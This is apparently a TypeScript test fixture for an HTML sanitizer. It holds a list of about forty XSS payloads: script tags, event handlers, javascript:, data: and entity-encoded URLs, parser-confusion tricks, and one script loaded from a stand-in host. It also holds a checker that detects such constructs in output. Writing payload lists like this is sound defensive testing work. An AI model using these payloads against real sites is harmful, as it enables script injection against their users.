// Test fixtures: XSS payloads and a checker for what must never reach a page. Used by the
// sanitizer's unit test, the blog API test and the browser test.

/** Payloads from the usual XSS cheat sheets: tags that run code, handlers, and URL tricks. */
export const XSS_PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=javascript:alert(1)>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)><circle r=1 /></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)">hover</div>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<a href="java\tscript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="//evil.example/">protocol-relative</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  '<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>',
  '[md link](javascript:alert(1))',
  '[md entity link](&#106;avascript:alert(1))',
  '![md image](javascript:alert(1))',
  '<https://ok.example/?q=<script>alert(1)</script>>',
];

/** Undoes HTML character references so an encoded "javascript:" is caught too. */
function decodeEntities(s: string): string {
  return s
    .replace(/&#x([0-9a-f]+);?/gi, (_, h) => String.fromCodePoint(parseInt(h, 16)))
    .replace(/&#(\d+);?/g, (_, d) => String.fromCodePoint(Number(d)))
    .replace(/&colon;/gi, ':')
    .replace(/&tab;/gi, '\t')
    .replace(/&newline;/gi, '\n');
}

/** What must never reach a page: an element that runs code, a handler attribute, or a script URL. */
export function unsafeParts(html: string): string[] {
  const found: string[] = [];
  // Script URLs matter only inside attributes (as text they are harmless words).
  const attrValues = [...html.matchAll(/\s[\w:-]+\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)/g)].map((m) => m[1]);
  // eslint-disable-next-line no-control-regex -- control characters are what this strips: browsers ignore them inside a URL scheme
  const decoded = decodeEntities(attrValues.join(' ')).replace(/[\s\u0000-\u001f]+/g, '');
  for (const tag of ['script', 'iframe', 'object', 'embed', 'svg', 'math', 'style', 'form', 'meta', 'base', 'link', 'template', 'noscript', 'source', 'details'])
    if (new RegExp(`<${tag}[\\s>/]`, 'i').test(html)) found.push(`<${tag}>`);
  const handler = /<[^>]+\son[a-z]+\s*=/i.exec(html);
  if (handler) found.push(handler[0]);
  if (/\sstyle\s*=/i.test(html)) found.push('style attribute');
  for (const scheme of ['javascript:', 'vbscript:', 'data:']) if (decoded.toLowerCase().includes(scheme)) found.push(scheme);
  if (/(href|src)\s*=\s*"\/\//i.test(html)) found.push('protocol-relative URL');
  return found;
}
